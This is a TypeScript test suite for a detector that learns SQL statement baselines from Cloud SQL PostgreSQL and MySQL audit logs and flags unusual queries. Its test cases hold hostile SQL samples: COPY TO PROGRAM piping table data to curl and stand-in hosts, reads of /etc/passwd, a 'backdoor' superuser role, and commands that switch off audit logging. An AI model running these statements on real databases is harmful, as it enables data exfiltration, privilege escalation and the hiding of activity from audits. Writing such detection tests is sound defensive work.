/**
 * Statement baselines: shapes from the real parsers (PostgreSQL's own, node-sql-parser's MySQL),
 * pgAudit chunks joined before parsing, learn → audit per credential × database × kind, the
 * statements that are never routine, and accept.
 */
import { mkdir, readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { AccessEvent } from '../../../functions/src/core/access-event.js';
import { accept } from '../../../functions/src/core/baseline/accept.js';
import { acceptanceFor } from '../../../functions/src/core/baseline/accept-command.js';
import { Learner } from '../../../functions/src/core/baseline/learn.js';
import { loadBaselines, loadEditableBaselines, writeLearned } from '../../../functions/src/core/baseline/store.js';
import { BatchAuditor } from '../../../functions/src/core/detect/auditor.js';
import type { Finding } from '../../../functions/src/core/detect/finding.js';
import { analyzeStatement } from '../../../functions/src/core/sql/analyze.js';
import { scanBytes, withTempDir } from '../../support/fixtures.js';

const TARGET = 'acme-prod:orders-pg';
const MYSQL_TARGET = 'acme-prod:billing-mysql';
let insert = 0;

/** A pgAudit Data Access entry as Cloud SQL writes it (fields per Google's PgAuditEntry docs). */
function pgAudit(statement: string, o: { user?: string; auditClass?: string; command?: string; database?: string; time?: string; chunk?: [number, number]; ids?: [number, number] } = {}): string {
  const [index, count] = o.chunk ?? [1, 1];
  return JSON.stringify({
    insertId: `pg-${++insert}`,
    logName: 'projects/acme-prod/logs/cloudaudit.googleapis.com%2Fdata_access',
    protoPayload: {
      '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
      methodName: 'cloudsql.instances.query',
      request: {
        '@type': 'type.googleapis.com/google.cloud.sql.audit.v1.PgAuditEntry',
        auditClass: o.auditClass ?? 'READ',
        auditType: 'SESSION',
        chunkCount: String(count),
        chunkIndex: String(index),
        command: o.command ?? 'SELECT',
        database: o.database ?? 'orders',
        databaseSessionId: o.ids?.[0] ?? 7,
        parameter: '[not logged]',
        statement,
        statementId: o.ids?.[1] ?? insert,
        substatementId: 1,
        user: o.user ?? 'orders_app',
      },
      resourceName: 'instances/orders-pg',
      serviceName: 'cloudsql.googleapis.com',
    },
    resource: { type: 'cloudsql_database', labels: { database_id: TARGET, project_id: 'acme-prod', region: 'us-central1' } },
    timestamp: o.time ?? '2026-11-20T10:00:00Z',
  });
}

/** A MySQL audit entry with a query (cmd query), as the cloudsql_mysql_audit flag writes it. */
function mysqlAudit(query: string, o: { user?: string; db?: string; time?: string } = {}): string {
  return JSON.stringify({
    insertId: `my-${++insert}`,
    logName: 'projects/acme-prod/logs/cloudaudit.googleapis.com%2Fdata_access',
    protoPayload: {
      '@type': 'type.googleapis.com/google.cloud.audit.AuditLog',
      methodName: 'cloudsql.instances.query',
      request: { '@type': 'type.googleapis.com/google.cloud.sql.audit.v1.MysqlAuditEntry', cmd: 'query', db: o.db ?? 'billing', ip: '10.40.0.50', privUser: o.user ?? 'billing_app', query, status: 'successful', threadId: '12', user: o.user ?? 'billing_app' },
      resourceName: 'instances/billing-mysql',
      serviceName: 'cloudsql.googleapis.com',
    },
    resource: { type: 'cloudsql_database', labels: { database_id: MYSQL_TARGET, project_id: 'acme-prod', region: 'us-central1' } },
    timestamp: o.time ?? '2026-11-20T10:00:00Z',
  });
}

async function events(lines: string[]): Promise<AccessEvent[]> {
  const scan = await scanBytes(`${lines.join('\n')}\n`);
  expect(scan.stats.bad, JSON.stringify(scan.problems.list())).toBe(0);
  return scan.events;
}

/** Learns `history` into a fresh baselines directory and audits `today` against it. */
async function learnThenAudit(dir: string, history: string[], today: string[]): Promise<{ findings: Finding[]; baselines: string }> {
  const baselines = join(dir, 'baselines');
  await mkdir(baselines, { recursive: true });
  const learner = new Learner();
  for (const e of await events(history)) learner.add(e);
  await writeLearned(baselines, learner.result(), []);
  const auditor = new BatchAuditor(await loadBaselines(baselines), { now: Date.parse('2026-11-24T00:00:00Z') });
  for (const e of await events(today)) auditor.add(e);
  return { findings: auditor.findings(), baselines };
}

const ROUTINE = [
  pgAudit('SELECT * FROM orders WHERE id = 41'),
  pgAudit("SELECT o.id, c.name FROM orders o JOIN customers c ON c.id = o.customer_id WHERE o.status = 'open' AND o.id IN (1, 2, 3)"),
  pgAudit("INSERT INTO orders (customer_id, total) VALUES (7, 12.50)", { auditClass: 'WRITE', command: 'INSERT' }),
  pgAudit('COPY (SELECT * FROM orders) TO STDOUT', { command: 'COPY' }),
];

describe('statement shapes from the real parsers', () => {
  it.each([
    ['postgres', 'SELECT * FROM customers WHERE id = 42', "select *   from customers where id=7"],
    ['postgres', 'SELECT * FROM customers WHERE id IN (1, 2, 3)', 'SELECT * FROM customers WHERE id IN (9)'],
    ['postgres', "SELECT * FROM t WHERE name = 'a' AND n = 1.5", "SELECT * FROM t WHERE name = 'zzz' AND n = 2"],
    ['mysql', 'SELECT * FROM customers WHERE id = 42', 'select * from customers where id=7'],
    ['mysql', 'SELECT * FROM customers WHERE id IN (1,2,3)', "SELECT * FROM customers WHERE id IN ('x')"],
  ] as const)('%s: %s and %s are one shape', (dialect, a, b) => {
    expect(analyzeStatement(dialect, a).fingerprint).toBe(analyzeStatement(dialect, b).fingerprint);
  });

  it.each([
    ['postgres', 'SELECT * FROM customers', 'SELECT * FROM orders'],
    ['postgres', 'SELECT id FROM customers', 'DELETE FROM customers'],
    ['mysql', 'SELECT * FROM customers', 'SELECT * FROM orders'],
  ] as const)('%s: %s and %s are different shapes', (dialect, a, b) => {
    expect(analyzeStatement(dialect, a).fingerprint).not.toBe(analyzeStatement(dialect, b).fingerprint);
  });

  it.each([
    ['postgres', "COPY customers TO PROGRAM 'curl -d @- https://x.example'", /PROGRAM runs a shell command/],
    ['postgres', "COPY customers FROM PROGRAM 'cat /etc/passwd'", /FROM PROGRAM/],
    ['postgres', "COPY customers TO '/tmp/customers.csv'", /TO a file/],
    ['postgres', "SELECT pg_read_file('/etc/passwd')", /pg_read_file\(\)/],
    ['postgres', "SELECT pg_read_binary_file('global/pg_control')", /pg_read_binary_file\(\)/],
    ['postgres', "SELECT lo_export(16385, '/tmp/x')", /lo_export\(\)/],
    ['postgres', "SELECT lo_import('/etc/hosts')", /lo_import\(\)/],
    ['postgres', "ALTER SYSTEM SET log_statement = 'none'", /ALTER SYSTEM/],
    ['postgres', 'CREATE ROLE backdoor SUPERUSER LOGIN', /CREATE ROLE … SUPERUSER/],
    ['postgres', 'ALTER ROLE orders_app SUPERUSER', /ALTER ROLE … SUPERUSER/],
    ['postgres', 'GRANT SELECT ON customers TO PUBLIC', /TO PUBLIC/],
    ['mysql', "SELECT * FROM customers INTO OUTFILE '/tmp/c.csv'", /INTO OUTFILE/],
    ['mysql', "SELECT * FROM customers INTO DUMPFILE '/tmp/c.bin'", /INTO DUMPFILE/],
    ['mysql', "LOAD DATA INFILE '/tmp/x.csv' INTO TABLE customers", /LOAD DATA INFILE/],
    ['mysql', "SET GLOBAL general_log = 'OFF'", /general_log/],
  ] as const)('%s: %s is never routine', (dialect, text, why) => {
    expect(analyzeStatement(dialect, text).neverRoutine).toMatch(why);
  });

  it.each([
    ['postgres', 'COPY (SELECT * FROM orders) TO STDOUT'],
    ['postgres', 'COPY orders FROM STDIN'],
    ['postgres', 'GRANT SELECT ON customers TO reporting'],
    ['postgres', 'ALTER ROLE orders_app NOSUPERUSER'],
    ['postgres', "SELECT 'pg_read_file is mentioned in a string'"],
    ['postgres', '-- COPY x TO PROGRAM in a comment\nSELECT 1'],
    ['mysql', "SET SESSION sql_mode = ''"],
    ['mysql', 'SELECT * FROM customers'],
  ] as const)('%s: %s is not flagged', (dialect, text) => {
    expect(analyzeStatement(dialect, text).neverRoutine).toBeUndefined();
  });

  it('names the relations a statement touches, schema-qualified when written so', () => {
    expect(analyzeStatement('postgres', 'SELECT * FROM public.customers c JOIN orders o ON o.cid = c.id').relations).toEqual(['orders', 'public.customers']);
    expect(analyzeStatement('postgres', "COPY customers TO PROGRAM 'x'").relations).toEqual(['customers']);
    expect(analyzeStatement('mysql', 'UPDATE shop.orders SET total = 1 WHERE id = 2').relations).toEqual(['shop.orders']);
  });

  it('a statement the parser rejects still yields its command keyword', () => {
    expect(analyzeStatement('postgres', 'SELEC * FROM x')).toMatchObject({ shape: 'SELEC', fingerprint: 'kw-selec', error: expect.stringMatching(/syntax error/) });
    expect(analyzeStatement('mysql', 'DROPP TABLE x')).toMatchObject({ shape: 'DROPP', error: expect.any(String) });
  });
});

describe('pgAudit chunks', () => {
  it('joins the chunks of a long statement before it is parsed: one access, the whole text', async () => {
    const text = `SELECT * FROM customers WHERE note = '${'x'.repeat(40)}' AND id IN (SELECT customer_id FROM orders)`;
    const parts = [text.slice(0, 30), text.slice(30, 60), text.slice(60)];
    const lines = parts.map((part, i) => pgAudit(part, { chunk: [i + 1, 3], ids: [99, 5] }));
    const got = await events([lines[0]!, pgAudit('SELECT 1'), lines[1]!, lines[2]!]);
    const joined = got.filter((e) => e.statement?.chunk);
    expect(joined).toHaveLength(1);
    expect(joined[0]!.statement!.text).toBe(text);
    expect(analyzeStatement('postgres', joined[0]!.statement!.text).relations).toEqual(['customers', 'orders']);
    expect(got).toHaveLength(2);
  });

  it('a first chunk whose parts never come is still an access, with the text it has', async () => {
    const got = await events([pgAudit('SELECT * FROM cust', { chunk: [1, 2], ids: [1, 1] })]);
    expect(got).toHaveLength(1);
    expect(got[0]!.statement!.text).toBe('SELECT * FROM cust');
  });
});

describe('statement baselines: learn, then audit', () => {
  it('routine statements with new literals are silent; a kind the user never ran is reported with its shape', async () => {
    await withTempDir(async (dir) => {
      const today = [pgAudit('SELECT * FROM orders WHERE id = 977'), pgAudit('SELECT * FROM orders WHERE id IN (5, 6, 7, 8)'), pgAudit('DELETE FROM orders WHERE id = 3', { auditClass: 'WRITE', command: 'DELETE' })];
      const { findings } = await learnThenAudit(dir, ROUTINE, today);
      expect(findings.map((f) => [f.type, f.severity, f.statement?.kind])).toEqual([['new-statement', 'medium', 'WRITE DELETE']]);
      expect(findings[0]!.statement).toMatchObject({ database: 'orders', shape: 'DELETE FROM orders WHERE id = $1' });
      expect(findings[0]!.rule.detail).toBe('this credential never ran WRITE DELETE on database orders');
      expect(findings[0]!.rule.nearest).toEqual(['READ COPY', 'READ SELECT', 'WRITE INSERT']);
    });
  });

  it('a known kind touching a relation it never did is reported', async () => {
    await withTempDir(async (dir) => {
      const { findings } = await learnThenAudit(dir, ROUTINE, [pgAudit('SELECT * FROM payment_cards WHERE id = 1')]);
      expect(findings).toHaveLength(1);
      expect(findings[0]!.statement!.newRelations).toEqual(['payment_cards']);
      expect(findings[0]!.rule.detail).toMatch(/never touched payment_cards with READ SELECT/);
    });
  });

  it('a never-routine statement is HIGH even for a baselined kind, until the baseline names its shape', async () => {
    await withTempDir(async (dir) => {
      const exfiltrate = pgAudit("COPY orders TO PROGRAM 'curl -T - https://drop.example'", { command: 'COPY' });
      const { findings, baselines } = await learnThenAudit(dir, ROUTINE, [exfiltrate]);
      expect(findings).toHaveLength(1);
      expect(findings[0]).toMatchObject({ type: 'new-statement', severity: 'high', statement: { kind: 'READ COPY', neverRoutine: expect.stringMatching(/PROGRAM/) } });
      // Accepting it names that exact shape; the same statement is then silent, another program is not.
      const acceptance = acceptanceFor(findings[0]!);
      if ('refused' in acceptance) throw new Error(acceptance.refused);
      await accept(baselines, { ...acceptance, reason: 'nightly backup to the archive' }, Date.parse('2026-11-24T00:00:00Z'));
      const text = await readFile(join(baselines, 'cloudsql/acme-prod_orders-pg.yaml'), 'utf8');
      expect(text).toMatch(/fingerprint: [0-9a-f]{16}\n\s+statement: COPY orders TO PROGRAM/);
      const again = new BatchAuditor(await loadBaselines(baselines), { now: Date.parse('2026-11-24T00:00:00Z') });
      for (const e of await events([exfiltrate, pgAudit("COPY orders TO PROGRAM 'sh -c id'", { command: 'COPY' })])) again.add(e);
      expect(again.findings().map((f) => f.statement?.neverRoutine)).toEqual([expect.stringMatching(/PROGRAM/)]);
    });
  });

  it('a never-routine statement learned from history is normal (a nightly COPY … TO a file); its file is part of its shape', async () => {
    await withTempDir(async (dir) => {
      const nightly = (day: number, file = '/backup/orders.csv') => pgAudit(`COPY orders TO '${file}'`, { command: 'COPY', time: `2026-11-1${day}T02:00:00Z` });
      const { findings } = await learnThenAudit(dir, [...ROUTINE, nightly(6), nightly(7)], [nightly(9), nightly(9, '/tmp/orders.csv')]);
      expect(findings.map((f) => f.statement?.shape)).toEqual(["COPY orders TO '/tmp/orders.csv'"]);
    });
  });

  it('MySQL: a known user running INTO OUTFILE for the first time is HIGH; its routine queries are not reported', async () => {
    await withTempDir(async (dir) => {
      const history = [mysqlAudit('SELECT * FROM invoices WHERE id = 1'), mysqlAudit('UPDATE invoices SET paid = 1 WHERE id = 2')];
      const today = [mysqlAudit('SELECT * FROM invoices WHERE id = 99'), mysqlAudit("SELECT * FROM invoices INTO OUTFILE '/tmp/i.csv'")];
      const { findings } = await learnThenAudit(dir, history, today);
      expect(findings.map((f) => [f.type, f.severity, f.statement?.kind, f.statement?.neverRoutine])).toEqual([['new-statement', 'high', 'QUERY SELECT', expect.stringMatching(/INTO OUTFILE/)]]);
      expect(findings[0]!.statement!.shape).toBe('SELECT * FROM `invoices` INTO OUTFILE ?');
    });
  });

  it('a new credential is one new-credential finding, not one per statement', async () => {
    await withTempDir(async (dir) => {
      const { findings } = await learnThenAudit(dir, ROUTINE, [pgAudit('COPY (SELECT * FROM customers) TO STDOUT', { user: 'tmp_export', command: 'COPY' }), pgAudit('SELECT 1', { user: 'tmp_export' })]);
      expect(findings.map((f) => f.type)).toEqual(['new-credential']);
    });
  });

  it('a baseline without a statements section is not checked for statements (older files stay quiet)', async () => {
    await withTempDir(async (dir) => {
      const baselines = join(dir, 'baselines');
      await mkdir(join(baselines, 'cloudsql'), { recursive: true });
      const { writeFile } = await import('node:fs/promises');
      await writeFile(join(baselines, 'cloudsql/acme-prod_orders-pg.yaml'), `version: 1\nkind: cloudsql\ntarget: ${TARGET}\ncredentials:\n  - match: db-user:orders_app\n`);
      const auditor = new BatchAuditor(await loadBaselines(baselines), { now: Date.parse('2026-11-24T00:00:00Z') });
      for (const e of await events([pgAudit("COPY orders TO PROGRAM 'x'", { command: 'COPY' })])) auditor.add(e);
      expect(auditor.findings()).toEqual([]);
    });
  });

  it('re-learning keeps analysts\' edits and adds only new relations and shapes', async () => {
    await withTempDir(async (dir) => {
      const baselines = join(dir, 'baselines');
      await mkdir(baselines, { recursive: true });
      const learnInto = async (lines: string[]) => {
        const existing = await loadEditableBaselines(baselines);
        const learner = new Learner(existing);
        for (const e of await events(lines)) learner.add(e);
        await writeLearned(baselines, learner.result(), existing);
      };
      await learnInto(ROUTINE);
      const file = join(baselines, 'cloudsql/acme-prod_orders-pg.yaml');
      const { writeFile } = await import('node:fs/promises');
      await writeFile(file, (await readFile(file, 'utf8')).replace('    kind: READ SELECT\n', '    kind: READ SELECT\n    owner: team-orders # reviewed\n'));
      await learnInto([pgAudit('SELECT * FROM refunds', { time: '2026-11-21T10:00:00Z' })]);
      const text = await readFile(file, 'utf8');
      expect(text).toContain('owner: team-orders # reviewed');
      expect(text).toMatch(/- refunds/);
      expect((await loadBaselines(baselines))[0]!.baseline.statements!.filter((s) => s.kind === 'READ SELECT')).toHaveLength(1);
    });
  });
});
